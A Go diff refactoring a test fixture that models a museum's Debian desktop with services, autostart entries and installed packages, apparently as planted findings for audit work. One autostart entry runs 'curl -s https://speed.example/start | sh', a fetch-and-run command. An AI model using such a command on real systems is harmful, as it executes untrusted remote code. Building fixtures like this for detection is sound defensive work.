@@ -2,9 +2,12 @@ package demo
 
 import "strings"
 
+// Folders of the reading room's packages.
+const lib, auto = "/usr/lib/systemd/system/", "/etc/xdg/autostart/"
+
 // readingRoom is a Linux desktop as a technician meets it: the computer in the museum's reading room.
 func readingRoom() []piece {
-	const lib, etc, auto = "/usr/lib/systemd/system/", "/etc/systemd/system/", "/etc/xdg/autostart/"
+	const etc = "/etc/systemd/system/"
 	// The operating system is that of the workshop box: all that its own packages delivered.
 	var pieces []piece
 	own := workshopPackages[:0:0]
@@ -27,7 +30,8 @@ func readingRoom() []piece {
 			"[Install]", "WantedBy=timers.target"))
 	}
 	pieces = append(pieces,
-		file("/etc/machine-id", "5f0e7a1c93b24d6e8a17c2d9b6304e59\n").as(0o444), file("/etc/hostname", "reading-room\n"),
+		file("/etc/machine-id", "5f0e7a1c93b24d6e8a17c2d9b6304e59\n").as(0o444),
+		file("/etc/hostname", "reading-room\n"),
 		file("/etc/debian_version", "12.5\n"),
 		file("/etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n"),
 		file("/etc/passwd", unit("root:x:0:0:root:/root:/bin/bash",
@@ -48,11 +52,13 @@ func readingRoom() []piece {
 			"multi-user.target")), wanted("brinecast.service"),
 		file(lib+"saltmarsh-licence.service", service("Saltmarsh licence service", "/opt/saltmarsh/licenced",
 			"multi-user.target")), wanted("saltmarsh-licence.service"),
-		file(lib+"lampwick-queue.service", service("Lampwick label queue", "/opt/lampwick/bin/queue", "multi-user.target")),
+		file(lib+"lampwick-queue.service", service("Lampwick label queue", "/opt/lampwick/bin/queue",
+			"multi-user.target")),
 		wanted("lampwick-queue.service"),
 		file(lib+"gannetry-meeting.service", service("Gannetry meeting helper", "/opt/gannetry/meeting",
 			"multi-user.target")),
-		file(etc+"tidewatch.service", service("Tidewatch tide gauge reader", "/opt/tidewatch/bin/tidewatchd --port 8099",
+		file(etc+"tidewatch.service", service("Tidewatch tide gauge reader",
+			"/opt/tidewatch/bin/tidewatchd --port 8099",
 			"multi-user.target")), link(etc+"multi-user.target.wants/tidewatch.service", etc+"tidewatch.service"),
 		file("/usr/lib/systemd/user/fogbell-index.service", unit("[Unit]", "Description=Fogbell index", "", "[Service]",
 			"ExecStart=/opt/fogbell/index", "", "[Install]", "WantedBy=default.target")),
@@ -64,10 +70,12 @@ func readingRoom() []piece {
 		file(auto+"lampwick-tray.desktop", desktop("Lampwick Labels", "/opt/lampwick/bin/tray")),
 		file(auto+"kelpline-tray.desktop", desktop("Kelpline Assistant", "/opt/kelpline/bin/assistant")),
 		file(auto+"gullrock-welcome.desktop", desktop("Gullrock Welcome", "/opt/gullrock/welcome --full-screen")),
-		file("/home/ines/.config/autostart/tide-chart.desktop", desktop("Tide Chart", "/home/ines/bin/tidechart")).of(ines),
+		file("/home/ines/.config/autostart/tide-chart.desktop", desktop("Tide Chart", "/home/ines/bin/tidechart")).of(
+			ines),
 		file("/home/ines/.config/autostart/limpetware.desktop", desktop("Limpetware Launcher",
 			"/opt/limpetware/launcher -silent")).of(ines),
-		file("/home/bram/.config/autostart/brinecast.desktop", desktop("Brinecast Viewer", "/opt/brinecast/viewer")).of(bram),
+		file("/home/bram/.config/autostart/brinecast.desktop", desktop("Brinecast Viewer", "/opt/brinecast/viewer")).of(
+			bram),
 		file("/home/bram/.config/autostart/speed.desktop", desktop("Speed",
 			"sh -c 'curl -s https://speed.example/start | sh'")).of(bram),
 		file("/home/bram/.config/autostart/photo-shed.desktop", desktop("Photo Shed", "/opt/photoshed/shed",
@@ -84,25 +92,33 @@ func readingRoom() []piece {
 		pieces = append(pieces, program(p))
 	}
 	pieces = append(pieces, program("/home/ines/bin/tidechart").of(ines), program("/home/ines/bin/index").of(ines))
-	return withPackages(pieces, append(own,
-		debianPackage{name: "kelpline-assistant", version: "9.1", maintainer: "Kelpline Software <packages@kelpline.example>",
+	return withPackages(pieces, append(own, readingRoomPackages()...))
+}
+
+// readingRoomPackages are what was installed on it beside the operating system.
+func readingRoomPackages() []debianPackage {
+	return []debianPackage{
+		{name: "kelpline-assistant", version: "9.1", maintainer: "Kelpline Software <packages@kelpline.example>",
 			description: "helps with everything", files: []string{lib + "kelpline-*", auto + "kelpline-*",
 				"/etc/cron.d/kelpline", "/opt/kelpline/bin/*"}, changed: "/opt/kelpline/bin/report"},
-		debianPackage{name: "fogbell", version: "3.2", maintainer: "Fogbell Works <packages@fogbell.example>",
+		{name: "fogbell", version: "3.2", maintainer: "Fogbell Works <packages@fogbell.example>",
 			description: "keeps folders the same on all your computers",
 			files:       []string{"/opt/fogbell/*", auto + "fogbell-*", "/usr/lib/systemd/user/fogbell-*"}},
-		debianPackage{name: "saltmarsh-licence", version: "12.0-3", maintainer: "Saltmarsh Ledgers <support@saltmarsh.example>",
+		{name: "saltmarsh-licence", version: "12.0-3", maintainer: "Saltmarsh Ledgers <support@saltmarsh.example>",
 			description: "licence service of the ledger", files: []string{"/opt/saltmarsh/*", lib + "saltmarsh-*"}},
-		debianPackage{name: "lampwick-labels", version: "4.0", maintainer: "Lampwick Labels <linux@lampwick.example>",
-			description: "label printing", files: []string{"/opt/lampwick/bin/*", lib + "lampwick-*", auto + "lampwick-*"}},
-		debianPackage{name: "gannetry-chat", version: "5.1", maintainer: "Gannetry <packages@gannetry.example>",
-			description: "chat and meetings", files: []string{"/opt/gannetry/*", lib + "gannetry-*", auto + "gannetry-*"}},
-		debianPackage{name: "skerrywell", version: "124.0", maintainer: "Skerrywell <packages@skerrywell.example>",
+		{name: "lampwick-labels", version: "4.0", maintainer: "Lampwick Labels <linux@lampwick.example>",
+			description: "label printing", files: []string{"/opt/lampwick/bin/*", lib + "lampwick-*",
+				auto + "lampwick-*"}},
+		{name: "gannetry-chat", version: "5.1", maintainer: "Gannetry <packages@gannetry.example>",
+			description: "chat and meetings", files: []string{"/opt/gannetry/*", lib + "gannetry-*",
+				auto + "gannetry-*"}},
+		{name: "skerrywell", version: "124.0", maintainer: "Skerrywell <packages@skerrywell.example>",
 			description: "web browser", files: []string{"/opt/skerrywell/*", auto + "skerrywell*",
 				"/etc/cron.daily/skerrywell"}},
-		debianPackage{name: "gullrock-welcome", version: "2.4",
+		{name: "gullrock-welcome", version: "2.4",
 			maintainer:  "Gullrock Lighthouse Museum <workshop@gullrock.example>",
-			description: "welcome page of the museum", files: []string{"/opt/gullrock/*", auto + "gullrock-*"}}))
+			description: "welcome page of the museum", files: []string{"/opt/gullrock/*", auto + "gullrock-*"}},
+	}
 }
 
 // ofPackages reports whether one of some packages delivered a piece.
